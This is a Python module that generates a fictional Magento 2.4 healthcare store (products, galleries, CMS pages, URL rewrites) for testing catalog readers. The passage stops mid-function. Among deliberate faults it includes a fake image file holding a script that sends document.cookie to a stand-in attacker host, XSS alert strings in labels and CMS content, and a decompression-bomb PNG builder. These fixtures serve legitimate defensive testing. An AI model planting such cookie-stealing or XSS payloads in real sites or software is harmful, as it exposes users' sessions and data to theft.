"""A deterministic fictional healthcare store in the Magento 2.4 schema, with its media files.

Writes the tables of :mod:`magento_bridge.schema` (Magento 2.4 ``db_schema.xml``, optionally the
Adobe Commerce content-staging layout) straight into MySQL/MariaDB or SQLite: a website with an
English and a German store view, EAV attributes, products with galleries, image roles, product
videos, product links, CMS blocks and pages, URL rewrites, and gallery files under
``<media_root>/catalog/product``. The same seed always gives the same rows and the same file bytes.

The store is built to catch readers that cut corners: attribute and entity-type ids move when a
table prefix or staging is used, staging has old and scheduled versions next to the live one, store
overrides hide or relabel images in one store view only, link positions disagree with insertion
order, identifiers repeat across store views, and a handful of deliberate faults (listed in the
summary) stand in for what real stores contain: missing, truncated, hostile and non-image files,
script in labels and CMS content, a product without a name.

Rows are generated and written per batch of products, so memory stays flat whatever the size.
"""

from __future__ import annotations

import dataclasses
import io
import random
import struct
import time
import unicodedata
import zlib
from collections import defaultdict
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from magento_bridge.connection import DatabaseUrl, connect, parse_database_url, placeholder_sql
from magento_bridge.schema import STAGING_MAX_VERSION, create_schema
from provenance.standards.content_credentials import SigningCredentials, created_manifest, manifest_sign
from provenance.standards.media_marks import TRAINED_ALGORITHMIC_MEDIA
from provenance.standards.xmp import xmp_embed, xmp_packet

DEMO_EPOCH = datetime(2026, 1, 1, tzinfo=UTC)  # every timestamp is this minus an offset
STAGING_PAST_VERSION = 1_600_000_000  # 2020-09-13: where "old" versions end
STAGING_FUTURE_VERSION = 2_100_000_000  # 2036-07-18: where scheduled "future" versions start

IPTC_EXT_NAMESPACE = "http://iptc.org/std/Iptc4xmpExt/2008-02-29/"

STORE_CODES = {1: "default", 2: "de"}  # storefront store views; 0 is "admin"
MIN_PRODUCTS = 12
BASE_URL = "https://shop.example.test/"
MARKER_PATH = "provenant/demo_store/generator"  # core_config_data row that marks a demo database

_BATCH_PRODUCTS = 1000
_PRODUCT_ROW_BASE = 1_000_000  # staging row_id = base + 3 * entity_id + version
_CMS_ROW_BASE = 50_000
_OLD, _LIVE, _FUTURE = 0, 1, 2
_ATTRIBUTE_SET_ID = 4

# Magento 2.4 link types; product_link_attribute_id of each type's "position".
_LINK_TYPES = {1: "relation", 3: "super", 4: "up_sell", 5: "cross_sell"}
_POSITION_ATTRIBUTE = {1: 1, 3: 2, 4: 4, 5: 5}
_RECOMMENDATION_TYPES = (1, 4, 5)

# code: (id in a stock Magento 2.4 install, backend_type, frontend_input, is_global, label)
_PRODUCT_ATTRIBUTES = {
    "name": (73, "varchar", "text", 0, "Product Name"),
    "sku": (74, "static", "text", 1, "SKU"),
    "description": (75, "text", "textarea", 0, "Description"),
    "price": (77, "decimal", "price", 2, "Price"),
    "image": (87, "varchar", "media_image", 0, "Base"),
    "small_image": (88, "varchar", "media_image", 0, "Small"),
    "thumbnail": (89, "varchar", "media_image", 0, "Thumbnail"),
    "media_gallery": (90, "static", "gallery", 0, "Media Gallery"),
    "news_from_date": (94, "datetime", "date", 2, "Set Product as New from Date"),
    "status": (97, "int", "select", 2, "Enable Product"),
    "visibility": (99, "int", "select", 0, "Visibility"),
    "url_key": (121, "varchar", "text", 0, "URL Key"),
    "swatch_image": (134, "varchar", "media_image", 0, "Swatch"),
}
# Same codes on another entity type: a reader that ignores entity_type_id picks these up.
_CATEGORY_ATTRIBUTES = {
    "name": (45, "varchar", "text", 0, "Name"),
    "is_active": (46, "int", "select", 0, "Is Active"),
    "description": (47, "text", "textarea", 0, "Description"),
    "image": (48, "varchar", "image", 0, "Image"),
    "url_key": (119, "varchar", "text", 0, "URL Key"),
}
_ENTITY_TYPES = {
    "customer": (1, "Magento\\Customer\\Model\\ResourceModel\\Customer", "customer_entity"),
    "customer_address": (2, "Magento\\Customer\\Model\\ResourceModel\\Address", "customer_address_entity"),
    "catalog_category": (3, "Magento\\Catalog\\Model\\ResourceModel\\Category", "catalog_category_entity"),
    "catalog_product": (4, "Magento\\Catalog\\Model\\ResourceModel\\Product", "catalog_product_entity"),
}
_MOVED_ATTRIBUTE_OFFSET = 400
_MOVED_ENTITY_TYPE_OFFSET = 10

# (English name, German name, file stem, numbers for {n})
_CATALOG = {
    "SUP": (
        ("Vitamin D3 {n} IU Softgels", "Vitamin D3 {n} I.E. Weichkapseln", "vitamin_d3", (400, 1000, 2000)),
        ("Magnesium Citrate {n} mg Tablets", "Magnesiumcitrat {n} mg Tabletten", "magnesium", (150, 300)),
        ("Omega-3 Fish Oil {n} mg Capsules", "Omega-3-Fischöl {n} mg Kapseln", "omega3", (500, 1000)),
        ("Zinc {n} mg Lozenges", "Zink {n} mg Lutschtabletten", "zinc", (5, 10, 15)),
        (
            "Vitamin C {n} mg Effervescent Tablets",
            "Vitamin C {n} mg Brausetabletten",
            "vitamin_c",
            (200, 500),
        ),
        ("Folic Acid {n} µg Tablets", "Folsäure {n} µg Tabletten", "folic_acid", (200, 400)),
        ("Iron {n} mg Gentle Capsules", "Eisen {n} mg Kapseln", "iron", (7, 14, 20)),
        ("Probiotic Blend, {n} Capsules", "Probiotische Mischung, {n} Kapseln", "probiotic", (30, 60)),
    ),
    "DEV": (
        ("Digital Thermometer DT-{n}", "Digitales Fieberthermometer DT-{n}", "thermometer", (10, 20, 35)),
        ("Infrared Ear Thermometer IR-{n}", "Infrarot-Ohrthermometer IR-{n}", "ear_thermometer", (3, 5)),
        (
            "Upper-Arm Blood Pressure Monitor BP-{n}",
            "Oberarm-Blutdruckmessgerät BP-{n}",
            "bp_monitor",
            (100, 200, 300),
        ),
        ("Wrist Blood Pressure Monitor BW-{n}", "Handgelenk-Blutdruckmessgerät BW-{n}", "bp_wrist", (50, 80)),
        ("Blood Pressure Cuff, {n} cm", "Blutdruckmanschette, {n} cm", "bp_cuff", (22, 32, 42)),
        ("Fingertip Pulse Oximeter PO-{n}", "Finger-Pulsoximeter PO-{n}", "pulse_oximeter", (40, 60)),
        (
            "Weekly Pill Organiser, {n} Compartments",
            "Wochen-Tablettenbox, {n} Fächer",
            "pill_box",
            (7, 14, 28),
        ),
    ),
    "SKN": (
        ("Aloe Vera Soothing Gel, {n} ml", "Aloe-Vera-Beruhigungsgel, {n} ml", "aloe_gel", (50, 100, 200)),
        (
            "Fragrance-Free Moisturising Cream, {n} ml",
            "Parfümfreie Feuchtigkeitscreme, {n} ml",
            "moisturiser",
            (50, 100),
        ),
        ("Mineral Sunscreen SPF {n}", "Mineralische Sonnencreme LSF {n}", "sunscreen", (30, 50)),
        ("Urea 10% Foot Cream, {n} ml", "Urea 10 % Fußcreme, {n} ml", "foot_cream", (75, 125)),
        ("Gentle Cleansing Lotion, {n} ml", "Milde Reinigungslotion, {n} ml", "cleanser", (150, 250)),
        ("Hand Sanitising Gel, {n} ml", "Händedesinfektionsgel, {n} ml", "hand_gel", (50, 100, 500)),
    ),
}
_KINDS = {0: "SKN", 1: "SUP", 2: "DEV"}  # by entity_id % 3
# SKUs that break naive URL building, OAuth signing and ASCII assumptions.
_SPECIAL_SKUS = {2: "DEV-BP/200", 3: "SKN-ALOE GEL", 4: "SUP-MAGNÉSIUM"}

_DESCRIPTIONS = {
    "SUP": (
        "<p>{name}. Food supplement.</p><ul><li>Take as directed on the label, with water.</li>"
        "<li>Do not exceed the recommended daily dose.</li><li>Keep out of the reach of young children."
        "</li></ul><p>Food supplements are not a substitute for a varied, balanced diet.</p>",
        "<p>{name}. Nahrungsergänzungsmittel.</p><ul><li>Wie auf dem Etikett angegeben mit Wasser "
        "einnehmen.</li><li>Die empfohlene Tagesdosis nicht überschreiten.</li><li>Außerhalb der "
        "Reichweite kleiner Kinder aufbewahren.</li></ul><p>Nahrungsergänzungsmittel sind kein Ersatz "
        "für eine abwechslungsreiche, ausgewogene Ernährung.</p>",
    ),
    "DEV": (
        "<p>{name}.</p><ul><li>Read the instructions for use before first use.</li><li>Clean after "
        "each use as the manual describes.</li><li>Talk to a healthcare professional about readings "
        "that worry you.</li></ul>",
        "<p>{name}.</p><ul><li>Vor dem ersten Gebrauch die Gebrauchsanweisung lesen.</li><li>Nach "
        "jedem Gebrauch wie beschrieben reinigen.</li><li>Sprechen Sie mit medizinischem Fachpersonal "
        "über Messwerte, die Sie beunruhigen.</li></ul>",
    ),
    "SKN": (
        "<p>{name}.</p><ul><li>For external use only.</li><li>Avoid contact with the eyes.</li>"
        "<li>Stop using it if irritation occurs.</li></ul>",
        "<p>{name}.</p><ul><li>Nur zur äußerlichen Anwendung.</li><li>Kontakt mit den Augen vermeiden."
        "</li><li>Bei Reizungen nicht weiter verwenden.</li></ul>",
    ),
}
_VIEWS = (
    ("front", "Vorderseite"),
    ("back", "Rückseite"),
    ("in use", "in Anwendung"),
    ("packaging", "Verpackung"),
    ("label detail", "Etikett im Detail"),
)

# Patient-education topics: (English title, German title, English paragraphs, German paragraphs).
_TOPICS = (
    (
        "Washing your hands well",
        "Richtig Hände waschen",
        (
            "Clean hands are one of the simplest ways to avoid passing on germs.",
            "Wet your hands, use soap, rub all surfaces for about 20 seconds, rinse and dry.",
        ),
        (
            "Saubere Hände gehören zu den einfachsten Wegen, Keime nicht weiterzugeben.",
            "Hände nass machen, Seife verwenden, etwa 20 Sekunden einreiben, abspülen, abtrocknen.",
        ),
    ),
    (
        "Storing medicines safely",
        "Arzneimittel sicher aufbewahren",
        (
            "Keep medicines in their original packaging, away from heat and out of children's reach.",
            "Check expiry dates regularly and ask your pharmacy how to dispose of old medicines.",
        ),
        (
            "Arzneimittel in der Originalverpackung, vor Wärme geschützt und für Kinder unerreichbar lagern.",
            "Verfallsdaten regelmäßig prüfen und in der Apotheke nach der Entsorgung fragen.",
        ),
    ),
    (
        "Taking a temperature at home",
        "Fieber messen zu Hause",
        (
            "Use the same thermometer and the same method each time so readings are comparable.",
            "Wait at least 15 minutes after eating, drinking or exercise before measuring.",
        ),
        (
            "Immer dasselbe Thermometer und dieselbe Methode verwenden, damit Werte vergleichbar sind.",
            "Nach Essen, Trinken oder Sport mindestens 15 Minuten bis zur Messung warten.",
        ),
    ),
    (
        "Measuring blood pressure at home",
        "Blutdruck zu Hause messen",
        (
            "Sit quietly for five minutes, feet flat on the floor, with the cuff at heart level.",
            "Write down your readings with the date and time and take them to your appointments.",
        ),
        (
            "Fünf Minuten ruhig sitzen, Füße flach auf dem Boden, Manschette auf Herzhöhe.",
            "Messwerte mit Datum und Uhrzeit notieren und zu Terminen mitnehmen.",
        ),
    ),
    (
        "Using a pulse oximeter",
        "Ein Pulsoximeter verwenden",
        (
            "Warm hands and a still finger give the most reliable reading.",
            "Nail polish and artificial nails can affect the measurement.",
        ),
        (
            "Warme Hände und ein ruhiger Finger liefern die zuverlässigsten Werte.",
            "Nagellack und künstliche Nägel können die Messung beeinflussen.",
        ),
    ),
    (
        "Sun protection basics",
        "Grundlagen des Sonnenschutzes",
        (
            "Apply sunscreen generously and reapply after swimming, sweating or towelling.",
            "Shade, hats and clothing protect too, especially around midday.",
        ),
        (
            "Sonnenschutz großzügig auftragen und nach Schwimmen, Schwitzen oder Abtrocknen erneuern.",
            "Schatten, Hut und Kleidung schützen ebenfalls, besonders um die Mittagszeit.",
        ),
    ),
    (
        "Staying hydrated",
        "Ausreichend trinken",
        (
            "Most adults need to drink regularly through the day, more in hot weather.",
            "Water and unsweetened drinks are good everyday choices.",
        ),
        (
            "Die meisten Erwachsenen sollten über den Tag verteilt regelmäßig trinken, bei Hitze mehr.",
            "Wasser und ungesüßte Getränke sind eine gute Wahl für jeden Tag.",
        ),
    ),
    (
        "Caring for dry skin",
        "Pflege für trockene Haut",
        (
            "Short, lukewarm showers and a fragrance-free moisturiser help many people.",
            "Pat the skin dry instead of rubbing it.",
        ),
        (
            "Kurze, lauwarme Duschen und eine parfümfreie Pflege helfen vielen Menschen.",
            "Die Haut trocken tupfen statt reiben.",
        ),
    ),
)
_DISCLAIMER = (
    "This information is general and does not replace advice from your doctor or pharmacist.",
    "Diese Informationen sind allgemein und ersetzen nicht den Rat Ihrer Ärztin, Ihres Arztes oder "
    "Ihrer Apotheke.",
)
_ASK_PHARMACIST = (
    "If you are unsure, ask your pharmacist.",
    "Fragen Sie im Zweifel in Ihrer Apotheke nach.",
)
_PAGE_LAYOUTS = ("1column", "2columns-right", "cms-full-width")

_AUTOMATIC1111_PARAMETERS = (
    "product photo of a white supplement bottle on a clean bathroom shelf, soft daylight\n"
    "Negative prompt: text, watermark, blurry\n"
    "Steps: 28, Sampler: DPM++ 2M Karras, CFG scale: 6.5, Seed: 1234567890, Size: 64x64, "
    "Model hash: 31e35c80fc, Model: sd_xl_base_1.0"
)
_NOT_AN_IMAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Access denied</title></head>\n"
    b"<body><h1>403</h1><script>document.location='https://attacker.example.test/'+document.cookie"
    b"</script></body></html>\n"
)
_SCRIPT_LABEL = "<script>alert(1)</script>"
_BROKEN_CMS = (
    "<div class=\"notice\"><p>Opening hours may change over the holidays.<script>alert('cms')</script>"
    "<p>Call us for <b>details<ul><li>Monday to Friday"
)


class DemoStoreError(Exception):
    """The demo store cannot be built with these arguments or into this database."""


@dataclass
class DemoSummary:
    """What :func:`build_demo_store` wrote and what a correct reader must find in it.

    ``expected_items[store_code][surface]`` counts registry items per storefront store view:

    - ``product_image``: (gallery ``value_id``, product) pairs of every live product, videos and
      hidden entries included (hidden ones carry a flag), disabled products included.
    - ``cms_block`` / ``cms_page``: live blocks/pages assigned to the store view or to store 0,
      active or not.
    - ``recommendation``: (product, link type) pairs for relation / up_sell / cross_sell with at
      least one link.

    ``expected_hidden_images[store_code]``: how many of those gallery pairs are hidden there (the
    store view's gallery row ``disabled`` if it has one, else the store-0 row's, or the gallery
    entry's own ``disabled``).
    """

    products: int
    gallery_entries: int  # (value_id, product) pairs of live products: images and videos
    gallery_rows: int  # rows in catalog_product_entity_media_gallery (scheduled versions included)
    images_on_disk: int  # files written under <media_root>/catalog/product
    ai_marked_images: int  # files carrying IPTC DigitalSourceType trainedAlgorithmicMedia in XMP
    parameters_images: int  # PNG files with an AUTOMATIC1111 "parameters" text chunk
    videos: int
    blocks: int
    pages: int
    links: dict[str, int]  # live product links by catalog_product_link_type.code
    url_rewrites: int
    stores: tuple[str, ...]
    faults: list[tuple[str, str]]
    expected_items: dict[str, dict[str, int]]
    expected_hidden_images: dict[str, int]
    product_entity_type_id: int
    attribute_ids: dict[str, int]  # product attribute code -> attribute_id
    staging: bool = False
    prefix: str = ""
    seed: int = 0
    media_root: str | None = None
    fault_entity_ids: dict[str, int] = field(default_factory=dict)
    c2pa_images: int = 0  # of the IPTC-marked files, those also signed with a C2PA manifest
    c2pa_tampered_images: int = 0  # C2PA-signed JPEGs (no XMP) changed after signing


# -- media ------------------------------------------------------------------------------------


def _xmp_packet(element_form: bool) -> bytes:
    if element_form:
        description = (
            f'<rdf:Description rdf:about="" xmlns:Iptc4xmpExt="{IPTC_EXT_NAMESPACE}">'
            f"<Iptc4xmpExt:DigitalSourceType>{TRAINED_ALGORITHMIC_MEDIA}</Iptc4xmpExt:DigitalSourceType>"
            "</rdf:Description>"
        )
    else:
        description = (
            f'<rdf:Description rdf:about="" xmlns:Iptc4xmpExt="{IPTC_EXT_NAMESPACE}" '
            f'Iptc4xmpExt:DigitalSourceType="{TRAINED_ALGORITHMIC_MEDIA}"/>'
        )
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        f"{description}</rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def _draw_product(rng: random.Random):
    from PIL import Image, ImageDraw

    width, height = rng.randint(32, 96), rng.randint(32, 96)
    background = tuple(rng.randint(200, 255) for _ in range(3))
    ink = tuple(rng.randint(0, 160) for _ in range(3))
    accent = tuple(rng.randint(60, 230) for _ in range(3))
    image = Image.new("RGB", (width, height), background)
    draw = ImageDraw.Draw(image)
    shape = rng.randrange(4)
    if shape == 0:  # bottle
        draw.rectangle((width * 0.3, height * 0.3, width * 0.7, height * 0.9), fill=ink)
        draw.rectangle((width * 0.38, height * 0.12, width * 0.62, height * 0.3), fill=accent)
    elif shape == 1:  # capsule
        draw.ellipse((width * 0.15, height * 0.35, width * 0.85, height * 0.65), fill=ink)
        draw.ellipse((width * 0.5, height * 0.35, width * 0.85, height * 0.65), fill=accent)
    elif shape == 2:  # thermometer
        draw.line((width * 0.2, height * 0.8, width * 0.8, height * 0.2), fill=ink, width=max(2, width // 12))
        draw.ellipse((width * 0.1, height * 0.7, width * 0.3, height * 0.9), fill=accent)
    else:  # cross
        draw.rectangle((width * 0.4, height * 0.15, width * 0.6, height * 0.85), fill=accent)
        draw.rectangle((width * 0.15, height * 0.4, width * 0.85, height * 0.6), fill=accent)
    return image


def _encode(image, fmt: str, *, xmp: bytes | None = None, parameters: str | None = None) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    buffer = io.BytesIO()
    if fmt == "jpg":
        options = {"xmp": xmp} if xmp else {}
        image.save(buffer, "JPEG", quality=85, **options)
    elif fmt == "webp":
        options = {"xmp": xmp} if xmp else {}
        image.save(buffer, "WEBP", quality=80, method=4, **options)
    else:
        info = PngInfo()
        if xmp:
            info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        if parameters:
            info.add_text("parameters", parameters)
        image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


@dataclass
class _ImagePool:
    """A few dozen encoded images, rendered once; gallery files reuse their bytes."""

    plain: dict[str, list[bytes]]
    ai_marked: dict[str, list[bytes]]
    parameters: list[bytes]
    c2pa_signed: dict[str, list[bytes]] = field(default_factory=dict)
    c2pa_tampered: list[bytes] = field(default_factory=list)

    def sign(self, credentials: SigningCredentials, seed: int) -> None:
        """Add images marked as a generation pipeline marks them (IPTC XMP + signed C2PA manifest),
        and C2PA-signed JPEGs whose pixels were changed after signing."""
        rng = random.Random(f"{seed}:c2pa-pool")

        def signed(fmt: str, *, xmp: bool) -> bytes:
            data = _encode(_draw_product(rng), fmt)
            if xmp:
                data = xmp_embed(
                    data,
                    xmp_packet(digital_source_type=TRAINED_ALGORITHMIC_MEDIA, creator_tool=_DEMO_GENERATOR),
                )
            manifest = created_manifest(
                title="Demo product shot",
                digital_source_type=TRAINED_ALGORITHMIC_MEDIA,
                generator=_DEMO_GENERATOR,
                generator_version="2.1",
                claim_generator="Provenant demo pipeline",
                claim_generator_version="1",
            )
            mime = {"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp"}[fmt]
            return manifest_sign(data, mime, manifest=manifest, credentials=credentials)

        self.c2pa_signed = {fmt: [signed(fmt, xmp=True) for _ in range(2)] for fmt in _POOL_SIZES}
        for _ in range(2):
            data = bytearray(signed("jpg", xmp=False))
            data[-64] ^= 0x01  # inside the entropy-coded scan: the C2PA data hash no longer matches
            self.c2pa_tampered.append(bytes(data))

    @classmethod
    def render(cls, seed: int) -> _ImagePool:
        rng = random.Random(f"{seed}:image-pool")
        plain = {fmt: [_encode(_draw_product(rng), fmt) for _ in range(n)] for fmt, n in _POOL_SIZES.items()}
        ai_marked = {
            fmt: [_encode(_draw_product(rng), fmt, xmp=_xmp_packet(i % 2 == 1)) for i in range(n)]
            for fmt, n in _AI_POOL_SIZES.items()
        }
        parameters = [
            _encode(_draw_product(rng), "png", parameters=_AUTOMATIC1111_PARAMETERS) for _ in range(2)
        ]
        return cls(plain, ai_marked, parameters)


_POOL_SIZES = {"jpg": 24, "png": 6, "webp": 4}
_DEMO_GENERATOR = "Demo image studio"
_AI_POOL_SIZES = {"jpg": 4, "png": 2, "webp": 2}


def _decompression_bomb_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A valid-looking PNG whose header declares ``width`` x ``height`` RGB pixels.

    Only the first scanline is present, so the file stays under a kilobyte; nothing ever
    allocates the pixels.
    """

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    first_row = zlib.compress(b"\x00" * (width * 3 + 1), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", first_row) + chunk(b"IEND", b"")


def gallery_path(file_name: str) -> str:
    """Magento's dispersion path for an uploaded file: ``ab123.jpg`` -> ``/a/b/ab123.jpg``."""
    name = file_name.lower()
    first = name[0] if name[0] != "." else "_"
    second = (name[1] if len(name) > 1 else "_").replace(".", "_")
    return f"/{first}/{second}/{name}"


# -- text helpers -----------------------------------------------------------------------------

_GERMAN_LETTERS = str.maketrans({"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "Ä": "ae", "Ö": "oe", "Ü": "ue"})


def _slug(text: str) -> str:
    ascii_text = unicodedata.normalize("NFKD", text.translate(_GERMAN_LETTERS))
    ascii_text = ascii_text.encode("ascii", "ignore").decode().lower()
    out, dash = [], False
    for char in ascii_text:
        if char.isalnum():
            out.append(char)
            dash = False
        elif not dash:
            out.append("-")
            dash = True
    return "".join(out).strip("-")


def _timestamp(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S")


# -- connections ------------------------------------------------------------------------------


def _as_url(db: DatabaseUrl | str) -> DatabaseUrl:
    return parse_database_url(db) if isinstance(db, str) else db


def _open(db: DatabaseUrl, *, create_database: bool = False):
    """A writable connection; MySQL sessions get UTC and Magento's NO_AUTO_VALUE_ON_ZERO."""
    if db.engine != "mysql":
        return connect(db, read_only=False)
    import pymysql

    try:
        conn = connect(db, read_only=False)
    except pymysql.err.OperationalError as exc:
        if not create_database or exc.args[0] != 1049:  # ER_BAD_DB_ERROR
            raise
        server = connect(dataclasses.replace(db, name=""), read_only=False)
        try:
            with server.cursor() as cur:
                name = db.name.replace("`", "``")
                cur.execute(
                    f"CREATE DATABASE IF NOT EXISTS `{name}` CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci"
                )
        finally:
            server.close()
        conn = connect(db, read_only=False)
    with conn.cursor() as cur:
        # Magento stores store_id/website_id 0 in AUTO_INCREMENT columns and runs its sessions
        # with NO_AUTO_VALUE_ON_ZERO; timestamps here are UTC wall-clock values.
        cur.execute("SET SESSION sql_mode = CONCAT(@@SESSION.sql_mode, ',NO_AUTO_VALUE_ON_ZERO')")
        cur.execute("SET SESSION time_zone = '+00:00'")
    return conn


def _quote(engine: str, name: str) -> str:
    return f"`{name}`" if engine == "mysql" else f'"{name}"'


def _table_exists(cur, engine: str, name: str) -> bool:
    if engine == "mysql":
        cur.execute(
            "SELECT COUNT(*) FROM information_schema.tables"
            " WHERE table_schema = DATABASE() AND table_name = %s",
            (name,),
        )
    else:
        cur.execute("SELECT COUNT(*) FROM sqlite_master WHERE type = 'table' AND name = ?", (name,))
    return bool(cur.fetchone()[0])


# -- the generator ----------------------------------------------------------------------------


@dataclass
class _Image:
    value_id: int
    path: str
    fmt: str
    media_type: str = "image"
    position: int = 1
    label_en: str | None = None
    label_de: str | None = None
    store0_disabled: int = 0
    store2_row: bool = False
    store2_disabled: int = 0
    gallery_disabled: int = 0
    video: tuple[str, str, str] | None = None  # (url, title, description)


@dataclass
class _Product:
    entity_id: int
    kind: str
    sku: str
    name_en: str | None
    name_de: str | None
    url_key_en: str
    url_key_de: str | None
    status0: int
    status2: int | None
    visibility: int
    price: str
    news_from_date: str | None
    created_at: str
    updated_at: str
    images: list[_Image]
    thumbnail_none: bool
    swatch: bool
    image_de: str | None
    links: list[tuple[int, int, int]]  # (link_type_id, linked entity_id, position)


class _StoreBuilder:
    def __init__(
        self,
        conn,
        engine: str,
        *,
        products: int,
        media_root: Path | None,
        staging: bool,
        prefix: str,
        seed: int,
        faults: bool,
        progress: Callable[[str, int, int], None] | None,
        c2pa: SigningCredentials | None = None,
    ) -> None:
        self.conn = conn
        self.engine = engine
        self.n = products
        self.media_base = media_root / "catalog" / "product" if media_root else None
        self.staging = staging
        self.prefix = prefix
        self.seed = seed
        self.with_faults = faults
        self.progress = progress or (lambda phase, done, total: None)
        self.key = "row_id" if staging else "entity_id"
        self.rng = random.Random(f"{seed}:catalog")
        self.file_rng = random.Random(f"{seed}:files")
        self.pool = _ImagePool.render(seed) if media_root else None
        if self.pool is not None and c2pa is not None:
            self.pool.sign(c2pa, seed)
        moved = staging or bool(prefix)
        self.attribute_offset = _MOVED_ATTRIBUTE_OFFSET if moved else 0
        self.entity_type_offset = _MOVED_ENTITY_TYPE_OFFSET if moved else 0
        self.attr = {code: spec[0] + self.attribute_offset for code, spec in _PRODUCT_ATTRIBUTES.items()}
        self.counters: dict[str, int] = defaultdict(int)
        self.rows: dict[str, list[tuple]] = defaultdict(list)
        self.made_dirs: set[Path] = set()
        self.faults: list[tuple[str, str]] = []
        self.fault_ids: dict[str, int] = {}
        self.fault_targets = self._fault_targets()
        # summary accumulators
        self.gallery_pairs = 0
        self.gallery_rows = 0
        self.hidden = {code: 0 for code in STORE_CODES.values()}
        self.videos = 0
        self.files_written = 0
        self.ai_marked = 0
        self.c2pa_signed = 0
        self.c2pa_tampered = 0
        self.parameters = 0
        self.png_count = 0
        self.recommendations = 0
        self.link_counts = {code: 0 for code in _LINK_TYPES.values()}
        self.url_rewrites = 0
        self.cms_expected: dict[str, dict[str, int]] = {
            code: {"cms_block": 0, "cms_page": 0} for code in STORE_CODES.values()
        }
        self.block_count = 0
        self.page_count = 0

    # -- plumbing -----------------------------------------------------------------------------

    def _next(self, counter: str) -> int:
        self.counters[counter] += 1
        return self.counters[counter]

    def _table(self, name: str) -> str:
        return _quote(self.engine, self.prefix + name)

    def _flush(self, columns: dict[str, Sequence[str]]) -> None:
        cur = self.conn.cursor()
        try:
            if self.engine == "mysql":
                self.conn.begin()
            for table, cols in columns.items():
                rows = self.rows.pop(table, None)
                if not rows:
                    continue
                names = ", ".join(_quote(self.engine, c) for c in cols)
                marks = ", ".join(["%s"] * len(cols))
                sql = placeholder_sql(
                    f"INSERT INTO {self._table(table)} ({names}) VALUES ({marks})", self.engine
                )
                cur.executemany(sql, rows)
            self.conn.commit()
        finally:
            cur.close()
        if self.rows:
            raise RuntimeError(f"rows generated for tables without columns: {sorted(self.rows)}")

    def _write_file(self, path: str, data: bytes) -> None:
        if self.media_base is None:
            return
        target = self.media_base / path.lstrip("/")
        if target.parent not in self.made_dirs:
            target.parent.mkdir(parents=True, exist_ok=True)
            self.made_dirs.add(target.parent)
        target.write_bytes(data)
        self.files_written += 1

    def _fault_targets(self) -> dict[str, int]:
        if not self.with_faults:
            return {}
        kinds = (
            "missing_file",
            "truncated_jpeg",
            "decompression_bomb",
            "not_an_image",
            "script_label",
            "null_name",
        )
        span = self.n - 5
        return {kind: 5 + (i * span) // (len(kinds) + 1) for i, kind in enumerate(kinds)}

    # -- fixed rows ---------------------------------------------------------------------------

    def write_stores(self) -> None:
        self.rows["store_website"] = [(0, "admin", "Admin", 0, 0, 0), (1, "base", "Main Website", 0, 1, 1)]
        self.rows["store_group"] = [
            (0, 0, "Default", 0, 0, "default"),
            (1, 1, "Main Website Store", 2, 1, "main_website_store"),
        ]
        self.rows["store"] = [
            (0, "admin", 0, 0, "Admin", 0, 1),
            (1, "default", 1, 1, "Default Store View", 0, 1),
            (2, "de", 1, 1, "Deutsch", 1, 1),
        ]
        config = [
            ("default", 0, "web/secure/base_url", BASE_URL),
            ("default", 0, "web/unsecure/base_url", BASE_URL),
            ("stores", 2, "web/secure/base_url", f"{BASE_URL}de/"),
            ("stores", 2, "web/unsecure/base_url", f"{BASE_URL}de/"),
            ("default", 0, "general/locale/code", "en_US"),
            ("stores", 2, "general/locale/code", "de_DE"),
            ("default", 0, "web/seo/use_rewrites", "1"),
            ("default", 0, MARKER_PATH, f"seed={self.seed} products={self.n} staging={int(self.staging)}"),
        ]
        stamp = _timestamp(DEMO_EPOCH - timedelta(days=400))
        self.rows["core_config_data"] = [(i + 1, *row, stamp) for i, row in enumerate(config)]
        self._flush(
            {
                "store_website": (
                    "website_id",
                    "code",
                    "name",
                    "sort_order",
                    "default_group_id",
                    "is_default",
                ),
                "store_group": (
                    "group_id",
                    "website_id",
                    "name",
                    "root_category_id",
                    "default_store_id",
                    "code",
                ),
                "store": ("store_id", "code", "website_id", "group_id", "name", "sort_order", "is_active"),
                "core_config_data": ("config_id", "scope", "scope_id", "path", "value", "updated_at"),
            }
        )

    def write_eav(self) -> None:
        types = []
        for code, (type_id, model, table) in _ENTITY_TYPES.items():
            types.append((type_id + self.entity_type_offset, code, model, table, _ATTRIBUTE_SET_ID))
        attributes, catalog = [], []
        product_type = _ENTITY_TYPES["catalog_product"][0] + self.entity_type_offset
        category_type = _ENTITY_TYPES["catalog_category"][0] + self.entity_type_offset
        for type_id, specs in ((category_type, _CATEGORY_ATTRIBUTES), (product_type, _PRODUCT_ATTRIBUTES)):
            for code, (attribute_id, backend, frontend, is_global, label) in specs.items():
                attribute_id += self.attribute_offset
                attributes.append((attribute_id, type_id, code, backend, frontend, label, int(code == "sku")))
                catalog.append((attribute_id, is_global, int(code in ("name", "sku"))))
        self.rows["eav_entity_type"] = types
        self.rows["eav_attribute"] = attributes
        self.rows["catalog_eav_attribute"] = catalog
        self.rows["catalog_product_link_type"] = [(i, code) for i, code in _LINK_TYPES.items()]
        self.rows["catalog_product_link_attribute"] = [
            (1, 1, "position", "int"),
            (2, 3, "position", "int"),
            (3, 3, "qty", "decimal"),
            (4, 4, "position", "int"),
            (5, 5, "position", "int"),
        ]
        self._flush(
            {
                "eav_entity_type": (
                    "entity_type_id",
                    "entity_type_code",
                    "entity_model",
                    "entity_table",
